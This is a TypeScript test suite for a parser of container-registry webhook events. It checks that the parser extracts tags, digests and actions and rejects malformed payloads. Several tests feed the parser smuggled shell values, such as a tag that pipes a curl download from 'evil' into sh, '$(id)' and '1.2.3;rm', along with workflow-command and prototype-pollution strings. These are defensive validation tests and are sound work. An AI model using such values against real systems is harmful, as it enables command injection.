import { describe, expect, test } from 'vitest'
import { PayloadError } from '../../src/errors.js'
import { parseEvent } from '../../src/event/parse.js'
import { cloneFixture, fixture } from '../support/fixtures.js'

const imageDigest = 'sha256:af44d698bd46ce657f1d8e2078bcb3d0e1e1a10cdbe065e1b070ff0085750c74'
const chartDigest = (fixture('native-chart-push.json') as any).target.digest as string

function mutated(name: string, change: (event: Record<string, any>) => unknown): unknown {
  const event = cloneFixture(name)
  const replaced = change(event)
  return replaced === undefined ? event : replaced
}

function errorOf(payload: unknown, root = 'client_payload'): PayloadError {
  try {
    parseEvent(payload, root)
  } catch (error) {
    expect(error).toBeInstanceOf(PayloadError)
    return error as PayloadError
  }
  throw new Error('parseEvent accepted the payload')
}

describe('an envelope whose data holds no action: the event type names it', () => {
  test.each([
    ['Microsoft.ContainerRegistry.ImagePushed', 'push'],
    ['Microsoft.ContainerRegistry.ImageDeleted', 'delete'],
    ['Microsoft.ContainerRegistry.ChartPushed', 'chart_push'],
    ['Microsoft.ContainerRegistry.ChartDeleted', 'chart_delete']
  ])('%s → %s', (type, action) => {
    const payload = mutated('cloudevents-chart-push.json', e => {
      e.type = type
      delete e.data.action
      if (!action.startsWith('chart')) e.data.target.mediaType = 'application/vnd.oci.image.manifest.v1+json'
    })
    expect(parseEvent(payload, 'client_payload').action).toBe(action)
  })
})

describe('parseEvent: every shape and action', () => {
  test.each([
    [
      'native-push.json',
      {
        shape: 'native',
        action: 'push',
        repository: 'team/web',
        tag: 'v1.4.2',
        digest: imageDigest,
        registry: 'myregistry.azurecr.io',
        size: 524,
        chart: undefined
      }
    ],
    ['native-push-by-digest.json', { shape: 'native', action: 'push', repository: 'team/web', tag: undefined, digest: imageDigest }],
    [
      'native-delete.json',
      {
        shape: 'native',
        action: 'delete',
        repository: 'team/web',
        tag: undefined,
        digest: imageDigest,
        size: undefined,
        registry: 'myregistry.azurecr.io'
      }
    ],
    ['native-quarantine.json', { shape: 'native', action: 'quarantine', repository: 'team/web', tag: 'v1.4.2', timestamp: '2026-11-17T16:50:00Z' }],
    [
      'native-chart-push.json',
      {
        shape: 'native',
        action: 'chart_push',
        repository: 'repo',
        tag: 'wordpress-5.4.0.tgz',
        digest: chartDigest,
        registry: undefined,
        chart: { name: 'wordpress', version: '5.4.0.tgz' }
      }
    ],
    ['native-chart-delete.json', { shape: 'native', action: 'chart_delete', repository: 'repo', chart: { name: 'wordpress', version: '5.4.0.tgz' } }],
    ['native-ping.json', { shape: 'native', action: 'ping', repository: undefined, digest: undefined }],
    [
      'eventgrid-push.json',
      { shape: 'event-grid', action: 'push', repository: 'team/web', tag: 'v1.4.2', digest: imageDigest, registry: 'myregistry.azurecr.io' }
    ],
    ['eventgrid-delete-batch-of-one.json', { shape: 'event-grid', action: 'delete', repository: 'team/web', digest: imageDigest }],
    ['cloudevents-chart-push.json', { shape: 'cloudevents', action: 'chart_push', repository: 'repo', tag: 'wordpress-5.4.0.tgz' }],
    ['wrapper-push.json', { shape: 'wrapper', action: 'push', repository: 'team/web', tag: 'v1.4.2', registry: 'myregistry.azurecr.io' }]
  ])('%s', (name, expected) => {
    const event = parseEvent(fixture(name), 'client_payload')
    for (const [key, value] of Object.entries(expected)) {
      expect(event[key as keyof typeof event], key).toEqual(value)
    }
  })

  test('keeps the request id, method and user agent, the last only as free text', () => {
    const event = parseEvent(fixture('native-push.json'), 'client_payload')
    expect(event.request).toEqual({
      id: '3cbb6949-7549-4fa1-b8e3-a6d5451dffc7',
      method: 'PUT',
      userAgent: expect.stringMatching(/^docker\/27\.3\.1 /)
    })
  })

  test('reads the OCI 1.1 artifact type: a notation signature in an image manifest', () => {
    const event = cloneFixture('native-push.json')
    event.target.mediaType = 'application/vnd.oci.image.manifest.v1+json'
    event.target.artifactType = 'application/vnd.cncf.notary.signature'
    expect(parseEvent(event, 'payload').artifact).toBe('signature')
  })

  // Some senders write every field, with null for those they have no value for.
  test.each([
    ['a null tag', (e: Record<string, any>) => void (e.target.tag = null), { tag: undefined }],
    ['a null size, with a length', (e: Record<string, any>) => void ((e.target.size = null), (e.target.length = 77)), { size: 77 }],
    ['a null request', (e: Record<string, any>) => void (e.request = null), { request: undefined, registry: undefined }]
  ])('reads %s as absent', (_name, change, expected) => {
    expect(parseEvent(mutated('native-push.json', change), 'payload')).toMatchObject(expected)
  })

  test('reads a null action in Event Grid data as absent, the event type naming it', () => {
    const event = mutated('eventgrid-push.json', e => void (e.data.action = null))
    expect(parseEvent(event, 'payload').action).toBe('push')
  })

  test.each([
    [
      'a user agent of 1024 characters',
      (e: Record<string, any>) => void (e.request.useragent = 'u'.repeat(1024)),
      { request: { userAgent: 'u'.repeat(1024) } }
    ],
    ['a size of 0', (e: Record<string, any>) => void (e.target.size = 0), { size: 0 }],
    ['a method of 16 letters', (e: Record<string, any>) => void (e.request.method = 'M'.repeat(16)), { request: { method: 'M'.repeat(16) } }]
  ])('accepts %s, at the bound', (_name, change, expected) => {
    expect(parseEvent(mutated('native-push.json', change), 'payload')).toMatchObject(expected)
  })

  test('falls back to length when size is absent', () => {
    const event = cloneFixture('native-push.json')
    delete event.target.size
    event.target.length = 77
    expect(parseEvent(event, 'payload').size).toBe(77)
  })

  test('ignores fields it does not know', () => {
    const event = cloneFixture('native-push.json')
    event.target.annotations = { 'org.opencontainers.image.source': '$(id)' }
    event.newTopLevel = [1, 2, 3]
    expect(parseEvent(event, 'payload').tag).toBe('v1.4.2')
  })
})

describe('parseEvent: refused payloads name the field, the rule and the value', () => {
  test.each([
    [
      'shell in a tag',
      mutated('native-push.json', e => void (e.target.tag = 'v1$(curl${IFS}evil|sh)')),
      'client_payload.target.tag',
      /OCI tag.*got "v1\$\(curl\$\{IFS\}evil\|sh\)"/
    ],
    [
      'backticks in a repository',
      mutated('native-push.json', e => void (e.target.repository = 'team/`id`')),
      'client_payload.target.repository',
      /OCI repository name/
    ],
    [
      'uppercase repository',
      mutated('native-push.json', e => void (e.target.repository = 'Team/Web')),
      'client_payload.target.repository',
      /lowercase/
    ],
    [
      'repository of 256 characters',
      mutated('native-push.json', e => void (e.target.repository = 'a'.repeat(256))),
      'client_payload.target.repository',
      /at most 255/
    ],
    [
      'tag of 129 characters',
      mutated('native-push.json', e => void (e.target.tag = 'v'.repeat(129))),
      'client_payload.target.tag',
      /\(129 characters\)/
    ],
    [
      'the documentation placeholder digest',
      mutated('native-push.json', e => void (e.target.digest = 'sha256:xxxxd5c8786bb9e621a45ece0dbxxxx1cdc624ad20da9fe62e9d25490f33xxxx')),
      'client_payload.target.digest',
      /sha256:<64 hex>/
    ],
    [
      'uppercase hex',
      mutated('native-push.json', e => void (e.target.digest = e.target.digest.toUpperCase())),
      'client_payload.target.digest',
      /lowercase/
    ],
    [
      'a digest missing',
      mutated('native-push.json', e => void delete e.target.digest),
      'client_payload.target.digest',
      /is required for a push event/
    ],
    [
      'a repository missing on delete',
      mutated('native-delete.json', e => void delete e.target.repository),
      'client_payload.target.repository',
      /is required for a delete event/
    ],
    ['no target', mutated('native-push.json', e => void delete e.target), 'client_payload.target', /is required/],
    ['a number as tag', mutated('native-push.json', e => void (e.target.tag = 1)), 'client_payload.target.tag', /must be a string; got 1/],
    [
      'an object as repository',
      mutated('native-push.json', e => void (e.target.repository = { $ne: '' })),
      'client_payload.target.repository',
      /must be a string; got an object/
    ],
    [
      'an event id with a space',
      mutated('native-push.json', e => void (e.id = 'id with space')),
      'client_payload.id',
      /: must be an event id: \[A-Za-z0-9\]\[A-Za-z0-9\._:-\]\{0,127\}; got "id with space"$/
    ],
    [
      'a chart version with a shell character',
      mutated('native-chart-push.json', e => void (e.target.version = '1.2.3;rm')),
      'client_payload.target.version',
      /: must be a chart version: \[A-Za-z0-9\]\[A-Za-z0-9\._\+-\]\{0,127\}; got "1\.2\.3;rm"$/
    ],
    ['a negative size', mutated('native-push.json', e => void (e.target.size = -1)), 'client_payload.target.size', /non-negative/],
    ['a fractional size', mutated('native-push.json', e => void (e.target.size = 1.5)), 'client_payload.target.size', /whole number/],
    ['a size beyond 2^53', mutated('native-push.json', e => void (e.target.size = 2 ** 53)), 'client_payload.target.size', /whole number/],
    ['a string size', mutated('native-push.json', e => void (e.target.size = '524')), 'client_payload.target.size', /got "524"/],
    [
      'a host with a path',
      mutated('native-push.json', e => void (e.request.host = 'evil.example/x')),
      'client_payload.request.host',
      /registry host/
    ],
    [
      'a media type with parameters',
      mutated('native-push.json', e => void (e.target.mediaType = 'application/json; x=$(id)')),
      'client_payload.target.mediaType',
      /media type/
    ],
    [
      'a timestamp without zone',
      mutated('native-push.json', e => void (e.timestamp = '2026-11-17T16:52:01')),
      'client_payload.timestamp',
      /RFC 3339/
    ],
    [
      'an id with a newline',
      mutated('native-push.json', e => void (e.id = 'a\n::set-output name=tag::x')),
      'client_payload.id',
      /got "a\\n::set-output/
    ],
    [
      'an unknown action',
      mutated('native-push.json', e => void (e.action = 'pull')),
      'client_payload.action',
      /one of push, delete, quarantine, chart_push, chart_delete, ping; got "pull"/
    ],
    [
      'no action at all',
      mutated('native-push.json', e => void delete e.action),
      'client_payload.action',
      /: is required: one of push, delete, quarantine, chart_push, chart_delete, ping$/
    ],
    [
      'a null action outside an envelope',
      mutated('native-push.json', e => void (e.action = null)),
      'client_payload.action',
      /: is required: one of push,/
    ],
    [
      'an artifact type with parameters',
      mutated('native-push.json', e => void (e.target.artifactType = 'application/spdx+json; x=$(id)')),
      'client_payload.target.artifactType',
      /media type/
    ],
    [
      'a method after other text',
      mutated('native-push.json', e => void (e.request.method = '$(id)PUT')),
      'client_payload.request.method',
      /HTTP method/
    ],
    [
      'a method before other text',
      mutated('native-push.json', e => void (e.request.method = 'PUT $(id)')),
      'client_payload.request.method',
      /HTTP method/
    ],
    [
      'a method of 17 letters',
      mutated('native-push.json', e => void (e.request.method = 'M'.repeat(17))),
      'client_payload.request.method',
      /at most 16 letters/
    ],
    [
      'a chart name with a space',
      mutated('native-chart-push.json', e => void (e.target.name = 'word press')),
      'client_payload.target.name',
      /chart name/
    ],
    [
      'a user agent of 1025 characters',
      mutated('native-push.json', e => void (e.request.useragent = 'u'.repeat(1025))),
      'client_payload.request.useragent',
      /at most 1024/
    ],
    ['a target that is an array', mutated('native-push.json', e => void (e.target = [])), 'client_payload.target', /JSON object; got an array of 0/],
    [
      'a batch of two',
      mutated('eventgrid-delete-batch-of-one.json', e => [(e as any)[0], (e as any)[0]]),
      'client_payload',
      /holds 2 events; send each event as its own dispatch/
    ],
    ['an empty batch', [], 'client_payload', /holds 0 events/],
    [
      'a batch inside a batch of one',
      mutated('eventgrid-delete-batch-of-one.json', e => [e]),
      'client_payload[0]',
      /not an array: a batch holds events, not batches/
    ],
    ['a string', 'push', 'client_payload', /must be a JSON object.*got "push"/],
    ['null', null, 'client_payload', /must be a JSON object.*got null/],
    ['an unrelated object', { hello: 'world' }, 'client_payload', /is not an ACR event/],
    [
      'an Event Grid type that is not ACR',
      mutated('eventgrid-push.json', e => void (e.eventType = 'Microsoft.EventGrid.SubscriptionValidationEvent')),
      'client_payload.eventType',
      /: must be one of Microsoft\.ContainerRegistry\.ImagePushed, Microsoft\.ContainerRegistry\.ImageDeleted, Microsoft\.ContainerRegistry\.ChartPushed, Microsoft\.ContainerRegistry\.ChartDeleted; got "Microsoft\.EventGrid\.SubscriptionValidationEvent"$/
    ],
    [
      'an Event Grid type inside an array',
      mutated('eventgrid-push.json', e => void (e.eventType = [e.eventType])),
      'client_payload.eventType',
      /: must be one of Microsoft\.ContainerRegistry\.ImagePushed, .*; got an array of 1$/
    ],
    [
      'a CloudEvents type inside an array',
      mutated('cloudevents-chart-push.json', e => void (e.type = [e.type])),
      'client_payload.type',
      /; got an array of 1$/
    ],
    [
      'an Event Grid action that contradicts its type',
      mutated('eventgrid-push.json', e => void (e.data.action = 'delete')),
      'client_payload.data.action',
      /contradicts client_payload.eventType, which means "push"/
    ],
    [
      'a bad tag inside Event Grid data',
      mutated('eventgrid-push.json', e => void (e.data.target.tag = '$x')),
      'client_payload.data.target.tag',
      /OCI tag/
    ],
    [
      'a bad tag inside a batch of one',
      mutated('eventgrid-delete-batch-of-one.json', e => void ((e as any)[0].data.target.repository = 'A')),
      'client_payload[0].data.target.repository',
      /lowercase/
    ],
    [
      'a CloudEvents version 0.3',
      mutated('cloudevents-chart-push.json', e => void (e.specversion = '0.3')),
      'client_payload.specversion',
      /must be "1.0"/
    ],
    ['CloudEvents without data', mutated('cloudevents-chart-push.json', e => void delete e.data), 'client_payload.data', /must be a JSON object/],
    [
      'a bad digest inside a relay wrapper',
      mutated('wrapper-push.json', e => void (e.data.target.digest = 'sha256:1')),
      'client_payload.data.target.digest',
      /OCI digest/
    ]
  ])('%s', (_name, payload, path, message) => {
    const error = errorOf(payload)
    expect(error.path).toBe(path)
    expect(error.message.startsWith(`${path}: `)).toBe(true)
    expect(error.message).toMatch(message)
  })

  // The hint is for the one mistake it names; any other value gets the rule alone.
  test.each([
    [
      "the placeholder of Microsoft's examples",
      'sha256:xxxxd5c8786bb9e621a45ece0dbxxxx1cdc624ad20da9fe62e9d25490f33xxxx',
      ' (this looks like the "xxxx" placeholder in Microsoft\'s example events; a real event carries a real digest)'
    ],
    ['a hex number', 'sha256:0x1f', '']
  ])('a digest that is %s: the whole message', (_name, digest, hint) => {
    const error = errorOf(mutated('native-push.json', e => void (e.target.digest = digest)))
    expect(error.message).toBe(
      `client_payload.target.digest: must be an OCI digest: sha256:<64 hex>, sha384:<96 hex>, sha512:<128 hex> or blake3:<64 hex>, lowercase${hint}; got "${digest}"`
    )
  })

  test('roots paths at the payload input when the event came from it', () => {
    const event = mutated('native-push.json', e => void (e.target.tag = '!'))
    expect(errorOf(event, 'payload').path).toBe('payload.target.tag')
  })

  test('escapes invisible and line-breaking characters in the value it shows', () => {
    const error = errorOf(mutated('native-push.json', e => void (e.target.tag = 'v1\u2028\u202e\u0007')))
    expect(error.message).toContain('"v1\\u2028\\u202e\\u0007"')
    expect(error.message).not.toMatch(/[\u0000-\u001f\u2028\u202e]/)
  })
})

describe('parseEvent: untrusted keys cannot reach the prototype', () => {
  test('a __proto__ key changes nothing', () => {
    const text = JSON.stringify(fixture('native-push.json')).replace(
      '"target":{',
      '"__proto__":{"polluted":"yes"},"target":{"__proto__":{"tag":"$(id)"},'
    )
    const payload = JSON.parse(text)
    const event = parseEvent(payload, 'client_payload')
    expect(event.tag).toBe('v1.4.2')
    expect(({} as any).polluted).toBeUndefined()
    expect(Object.getPrototypeOf(event)).toBe(Object.prototype)
  })

  test('an inherited property is not read as a field', () => {
    const payload = Object.create({ action: 'push', target: { repository: 'x', digest: imageDigest } })
    expect(errorOf(payload).message).toMatch(/is not an ACR event/)
  })
})
